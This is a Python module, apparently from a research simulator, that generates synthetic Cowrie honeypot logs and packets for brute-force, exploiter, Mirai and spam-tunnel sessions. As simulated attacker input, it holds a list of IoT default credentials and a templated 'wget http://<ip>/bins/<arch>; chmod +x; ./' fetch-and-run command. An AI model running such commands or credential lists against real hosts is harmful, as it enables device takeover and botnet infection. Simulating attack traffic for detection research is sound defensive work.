"""Cowrie JSON-lines logs of the simulated honeypot, and the TCP packets of the same sessions.

Who logs in: brute-forcers on an SSH/Telnet service (most with more than 10 attempts a day), exploiters (log in,
run commands, download a file), some Mirai bots (a few Telnet attempts) and some background hosts (connect and
leave, or one or two attempts). Sessions are generated per host with a Python loop over sessions (a few thousand
a day at scale 1.0); the packets of the sessions are returned as columns so they land in the honeypot's capture.
"""

from __future__ import annotations

import datetime as dt
import json

import numpy as np

from darkembed.simulate import catalog as C
from darkembed.simulate.pcap import OPT_LINUX, empty_columns

USERS = [
    "root",
    "admin",
    "user",
    "ubnt",
    "pi",
    "oracle",
    "test",
    "support",
    "guest",
    "ftpuser",
    "postgres",
    "git",
]
PASSWORDS = [
    "123456",
    "admin",
    "password",
    "root",
    "12345",
    "1234",
    "default",
    "raspberry",
    "ubnt",
    "qwerty",
    "admin123",
    "toor",
    "changeme",
    "P@ssw0rd",
    "vizxv",
    "xc3511",
    "888888",
    "support",
    "111111",
    "pass",
]
SSH_VERSIONS = [
    "SSH-2.0-libssh_0.9.6",
    "SSH-2.0-Go",
    "SSH-2.0-OpenSSH_7.4",
    "SSH-2.0-libssh2_1.10.0",
    "SSH-2.0-PUTTY",
    "SSH-2.0-paramiko_3.1.0",
]
RECON = [
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "whoami",
    "free -m",
    "ls -lh $(which ls)",
    "crontab -l",
    "w",
    "uname -m",
    "cat /proc/cpuinfo | grep model | grep name | wc -l",
    "lscpu | grep Model",
]
ARCHES = ["arm7", "mips", "x86", "arm", "mpsl", "sh4", "ppc", "m68k"]


class _Day:
    def __init__(self, day: dt.date, sensor: str, rng: np.random.Generator) -> None:
        self.t0 = dt.datetime(day.year, day.month, day.day, tzinfo=dt.UTC)
        self.sensor = sensor
        self.rng = rng
        self.events: list[tuple[int, int, str]] = []  # (time in µs of the day, order, json line)
        self.pk: dict[str, list[int]] = {k: [] for k in ("t", "src", "dst", "sport", "dport", "flags", "seq")}
        self.n = 0

    def ts(self, us: int) -> str:
        t = self.t0 + dt.timedelta(microseconds=us)
        return t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")

    def emit(self, us: int, ev: dict) -> None:
        ev["timestamp"] = self.ts(us)
        ev["sensor"] = self.sensor
        self.events.append((us, self.n, json.dumps(ev)))
        self.n += 1

    def packet(self, us: int, src: int, dst: int, sport: int, dport: int, flags: int, seq: int) -> None:
        for k, v in zip(self.pk, (us, src, dst, sport, dport, flags, seq), strict=True):
            self.pk[k].append(v)


def _session(
    day: _Day,
    us: int,
    src: int,
    dst: int,
    dport: int,
    logins: list[tuple[str, str, bool]],
    commands: list[str],
    download: str | None,
    tunnels: list[tuple[str, int]] = (),
) -> int:
    """Emit one session's events and packets, starting at `us`; returns its end time (µs of the day).

    `tunnels` are SSH direct-tcpip requests (target host, port) made after the logins, logged as Cowrie does: with
    the originator address of the channel request as `src_ip` (here 127.0.0.1, as spam tools send), not the
    attacker's."""
    rng = day.rng
    sid = "".join(f"{b:02x}" for b in rng.integers(0, 256, 6))
    sport = int(rng.integers(32768, 61000))
    proto = C.COWRIE_PORTS.get(dport, "ssh")
    s_ip, d_ip = C.ip_str(src), C.ip_str(dst)
    day.emit(
        us,
        {
            "eventid": "cowrie.session.connect",
            "src_ip": s_ip,
            "src_port": sport,
            "dst_ip": d_ip,
            "dst_port": dport,
            "session": sid,
            "protocol": proto,
            "message": f"New connection: {s_ip}:{sport} ({d_ip}:{dport}) [session: {sid}]",
        },
    )
    isn = int(rng.integers(0, 2**32))
    day.packet(us, src, dst, sport, dport, 0x02, isn)
    t = us + int(rng.integers(20_000, 400_000))
    if proto == "ssh":
        version = SSH_VERSIONS[int(rng.integers(len(SSH_VERSIONS)))]
        day.emit(
            t,
            {
                "eventid": "cowrie.client.version",
                "version": version,
                "session": sid,
                "src_ip": s_ip,
                "message": f"Remote SSH version: {version}",
            },
        )
    n_pk = 2
    for user, pwd, ok in logins:
        t += int(rng.integers(300_000, 3_000_000))
        ev = "cowrie.login.success" if ok else "cowrie.login.failed"
        word = "succeeded" if ok else "failed"
        day.emit(
            t,
            {
                "eventid": ev,
                "username": user,
                "password": pwd,
                "session": sid,
                "src_ip": s_ip,
                "message": f"login attempt [{user}/{pwd}] {word}",
            },
        )
        n_pk += 2
    for cmd in commands:
        t += int(rng.integers(200_000, 2_000_000))
        day.emit(
            t,
            {
                "eventid": "cowrie.command.input",
                "input": cmd,
                "session": sid,
                "src_ip": s_ip,
                "message": f"CMD: {cmd}",
            },
        )
        n_pk += 1
    for host, port in tunnels:
        t += int(rng.integers(500_000, 5_000_000))
        day.emit(
            t,
            {
                "eventid": "cowrie.direct-tcpip.request",
                "dst_ip": host,
                "dst_port": port,
                "src_ip": "127.0.0.1",
                "src_port": 0,
                "session": sid,
                "message": f"direct-tcp connection request to {host}:{port} from 127.0.0.1:0",
            },
        )
        t += int(rng.integers(50_000, 500_000))
        day.emit(
            t,
            {
                "eventid": "cowrie.direct-tcpip.data",
                "dst_ip": host,
                "dst_port": port,
                "data": "b'EHLO localhost\\r\\n'",
                "session": sid,
                "src_ip": s_ip,
                "message": f"direct-tcp forward to {host}:{port} with data b'EHLO localhost\\r\\n'",
            },
        )
        n_pk += 2
    if download is not None:
        t += int(rng.integers(1_000_000, 8_000_000))
        sha = "".join(f"{b:02x}" for b in rng.integers(0, 256, 32))
        dest = "/tmp/" + download.rsplit("/", 1)[-1]
        day.emit(
            t,
            {
                "eventid": "cowrie.session.file_download",
                "url": download,
                "outfile": f"var/lib/cowrie/downloads/{sha}",
                "shasum": sha,
                "destfile": dest,
                "duplicate": bool(rng.random() < 0.5),
                "session": sid,
                "src_ip": s_ip,
                "message": f"Downloaded URL ({download}) with SHA-256 {sha} to var/lib/cowrie/downloads/{sha}",
            },
        )
        n_pk += 4
    t += int(rng.integers(100_000, 2_000_000))
    dur = t - us
    day.emit(
        t,
        {
            "eventid": "cowrie.session.closed",
            "duration_ms": dur // 1000,
            "session": sid,
            "src_ip": s_ip,
            "message": f"Connection lost after {dur // 1_000_000} seconds",
        },
    )
    # the client's segments after the handshake (ACK / PSH+ACK), spread over the session
    for k in range(n_pk):
        tk = us + 1 + (dur * (k + 1)) // (n_pk + 1)
        day.packet(tk, src, dst, sport, dport, 0x18 if k % 2 else 0x10, (isn + 1 + 40 * k) & 0xFFFFFFFF)
    return t


def _creds(rng: np.random.Generator, n: int) -> list[tuple[str, str]]:
    u = rng.integers(0, len(USERS), n)
    p = rng.integers(0, len(PASSWORDS), n)
    return [(USERS[int(a)], PASSWORDS[int(b)]) for a, b in zip(u, p, strict=True)]


def honeypot_day(
    day: dt.date,
    day_start_us: int,
    sensor: str,
    prefix: int,
    size: int,
    hosts: dict[str, np.ndarray],
    rng: np.random.Generator,
    tunnel_rng: np.random.Generator | None = None,
) -> tuple[list[str], dict[str, np.ndarray], np.ndarray, np.ndarray]:
    """The Cowrie log lines of one honeypot-day and the packets of its sessions.

    Spammers that log in relay mail through SSH tunnels (`cowrie.direct-tcpip.request` to an SMTP port, the
    honeypot's spammer rule); their sessions draw from `tunnel_rng` (default: `rng` after everything else), so
    adding them leaves every other host's sessions as they were.

    Args:
        day: the UTC day.
        day_start_us: the day's midnight in µs since the epoch.
        sensor: the Cowrie sensor name (the network name).
        prefix: the honeypot's first address (uint32 as int); `size` addresses answer.
        hosts: the honeypot's visible hosts that day: `ip` uint32, `cls` int16, `variant` int16, `start`
            float64 (activity start, hours), `dur` float64 (hours); arrays of length V.
        rng: the honeypot-day's generator.
        tunnel_rng: the generator of the spammers' tunnel sessions.

    Returns:
        The JSON lines sorted by time; the session packets as pcap columns (time-unsorted); and per visible host
        (V,) int64 arrays: login attempts and successful downloads.
    """
    d = _Day(day, sensor, rng)
    v = len(hosts["ip"])
    logins = np.zeros(v, dtype=np.int64)
    downloads = np.zeros(v, dtype=np.int64)
    kinds = [C.CLASSES[int(c)].kind for c in hosts["cls"]]
    for i in range(v):
        kind = kinds[i]
        src = int(hosts["ip"][i])
        t = int((hosts["start"][i] % 24) * 3.6e9)
        span = max(1.0, float(hosts["dur"][i])) * 3.6e9
        dst = prefix + int(rng.integers(0, size))
        if kind == "bruteforcer":
            port = int(C.BRUTE_SERVICES[int(hosts["variant"][i])])
            if port not in C.COWRIE_PORTS:
                continue
            many = rng.random() < 0.85
            n = 11 + int(rng.lognormal(3.5, 1.0)) if many else int(rng.integers(1, 11))
            n = min(n, 3000)
            left = n
            success_at = n if rng.random() < 0.2 else -1
            done = 0
            while left > 0:
                k = min(left, int(rng.integers(1, 5)))
                creds = _creds(rng, k)
                attempts = [(u, p, done + j + 1 == success_at) for j, (u, p) in enumerate(creds)]
                cmds = [RECON[int(rng.integers(len(RECON)))]] if attempts[-1][2] else []
                start = t + int(rng.random() * span)
                _session(d, start % 86_400_000_000, src, dst, port, attempts, cmds, None)
                left -= k
                done += k
            logins[i] = n
        elif kind == "exploiter":
            for s in range(int(rng.integers(1, 4))):
                port = 23 if rng.random() < 0.3 else 22
                fails = _creds(rng, int(rng.integers(0, 3)))
                u, p = _creds(rng, 1)[0]
                attempts = [(a, b, False) for a, b in fails] + [(u, p, True)]
                host = C.ip_str(int(rng.integers(0x01000000, 0xDF000000)))
                arch = ARCHES[int(rng.integers(len(ARCHES)))]
                url = f"http://{host}/bins/{arch}" if rng.random() < 0.8 else f"http://{host}/{arch}.sh"
                fname = url.rsplit("/", 1)[-1]
                cmds = [
                    RECON[int(rng.integers(len(RECON)))],
                    f"cd /tmp || cd /var/run; wget {url}",
                    f"chmod +x {fname}; ./{fname}",
                ]
                first = s == 0 or rng.random() < 0.5
                start = t + int(rng.random() * span)
                _session(d, start % 86_400_000_000, src, dst, port, attempts, cmds, url if first else None)
                logins[i] += len(attempts)
                downloads[i] += int(first)
        elif kind == "mirai":
            if rng.random() < 0.4:
                k = int(rng.integers(1, 5))
                attempts = [(u, p, False) for u, p in _creds(rng, k)]
                _session(d, (t + int(rng.random() * span)) % 86_400_000_000, src, dst, 23, attempts, [], None)
                logins[i] = k
        elif kind == "unknown" and rng.random() < 0.05:
            k = int(rng.integers(0, 3))
            attempts = [(u, p, False) for u, p in _creds(rng, k)]
            port = 22 if rng.random() < 0.7 else 23
            _session(d, (t + int(rng.random() * span)) % 86_400_000_000, src, dst, port, attempts, [], None)
            logins[i] = k
    if tunnel_rng is not None:
        d.rng = tunnel_rng
    for i in np.flatnonzero(np.array([k == "spammer" for k in kinds], dtype=bool)):
        rng_t = d.rng
        if rng_t.random() >= C.SPAM_TUNNEL_SHARE:  # the others only probe SMTP ports (darknet-like traffic)
            continue
        src = int(hosts["ip"][i])
        t = int((hosts["start"][i] % 24) * 3.6e9)
        span = max(1.0, float(hosts["dur"][i])) * 3.6e9
        dst = prefix + int(rng_t.integers(0, size))
        for _ in range(int(rng_t.integers(1, 4))):
            fails = _creds(rng_t, int(rng_t.integers(0, 3)))
            u, p = _creds(rng_t, 1)[0]
            attempts = [(a, b, False) for a, b in fails] + [(u, p, True)]
            relays = [
                (C.ip_str(int(rng_t.integers(0x01000000, 0xDF000000))),
                 int(C.SMTP_PORTS[rng_t.choice(3, p=C.SMTP_WEIGHTS)]))
                for _ in range(int(rng_t.integers(1, 12)))
            ]  # fmt: skip
            port = 22 if rng_t.random() < 0.8 else 2222
            start = t + int(rng_t.random() * span)
            _session(d, start % 86_400_000_000, src, dst, port, attempts, [], None, relays)
            logins[i] += len(attempts)
    d.rng = rng
    d.events.sort(key=lambda e: (e[0], e[1]))
    lines = [e[2] for e in d.events]
    n = len(d.pk["t"])
    cols = empty_columns(n)
    if n:
        cols["ts_us"] = day_start_us + np.minimum(np.asarray(d.pk["t"], np.int64), 86_400_000_000 - 1)
        cols["src"] = np.asarray(d.pk["src"], np.uint32)
        cols["dst"] = np.asarray(d.pk["dst"], np.uint32)
        cols["sport"] = np.asarray(d.pk["sport"], np.uint16)
        cols["dport"] = np.asarray(d.pk["dport"], np.uint16)
        cols["flags"] = np.asarray(d.pk["flags"], np.uint8)
        cols["seq"] = np.asarray(d.pk["seq"], np.uint32)
        cols["proto"][:] = 6
        syn = cols["flags"] == 0x02
        cols["opts"] = np.where(syn, OPT_LINUX, 0).astype(np.int8)
        cols["win"] = np.where(syn, 64240, 502).astype(np.uint16)
        cols["ack"] = np.where(syn, 0, rng.integers(0, 2**32, n, dtype=np.uint64)).astype(np.uint32)
        cols["ip_id"] = rng.integers(0, 65536, n).astype(np.uint16)
        cols["df"][:] = True
        cols["tsval"] = rng.integers(0, 2**32, n, dtype=np.uint64).astype(np.uint32)
    return lines, cols, logins, downloads
